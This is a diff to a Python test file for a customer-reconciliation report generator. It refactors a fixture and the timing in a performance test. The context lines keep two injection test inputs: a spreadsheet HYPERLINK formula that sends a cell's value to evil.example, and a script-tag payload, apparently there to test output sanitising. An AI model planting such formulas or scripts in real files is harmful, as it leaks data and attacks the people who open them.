@@ -15,10 +15,9 @@ from lxml import html
 
 from generator.commands.clean import clean
 from generator.commands.context import begin
-from generator.commands.steps.customer_history import Hindsight
 from generator.commands.steps.reconcile_reports import reconciliation_json, write_reconciliation
 from generator.findings import Findings
-from generator.plan.customers.customer_history import Change, Past, Trend
+from generator.plan.customers.customer_history import Change, Hindsight, Past, Trend
 from generator.plan.customers.reconciliation import VERDICTS, Outcome, Reconciliation
 from tests.outcomes import outcome
 from tests.people import ISSUE, at, newsletter_in
@@ -26,9 +25,9 @@ from tests.people import ISSUE, at, newsletter_in
 NAMES = {f"reconciliation.{kind}" for kind in ("html", "csv", "xlsx", "json")}
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 SCRIPT = "<script>alert(1)</script>\nnext"
-CHANGES = (Change("가", "", "", "reached", "bounced"), Change("나", "", "", "", "missing"),
-           Change("다", "", "", "missing", "opted-out"), Change("라", "", "", "typo", "reached-elsewhere"),
-           Change("마", "", "", "", "reached"), Change("바", "", "", "reached", "reached-elsewhere"))
+CHANGES = tuple(Change(outcome(now, name=name, company="", owner=""), before) for name, before, now in (
+    ("가", "reached", "bounced"), ("나", "", "missing"), ("다", "missing", "opted-out"),
+    ("라", "typo", "reached-elsewhere"), ("마", "", "reached"), ("바", "reached", "reached-elsewhere")))
 TREND = (Trend(date(2026, 10, 5), "2026-10", 1, 3), Trend(date(2026, 11, 5), ISSUE, 2, 3))
 
 
@@ -133,6 +132,6 @@ def test_a_template_that_fails_is_reported(tmp_path: Path) -> None:
 def test_many_customers_are_quick(tmp_path: Path) -> None:
     """Three thousand key customers in all four reports."""
     many = [outcome(VERDICTS[number % 10], id=str(number), owner=str(number % 30)) for number in range(3_000)]
-    start = time.perf_counter()
+    start = time.process_time()
     reports(tmp_path, *many)
-    assert time.perf_counter() - start < 6
+    assert time.process_time() - start < 6
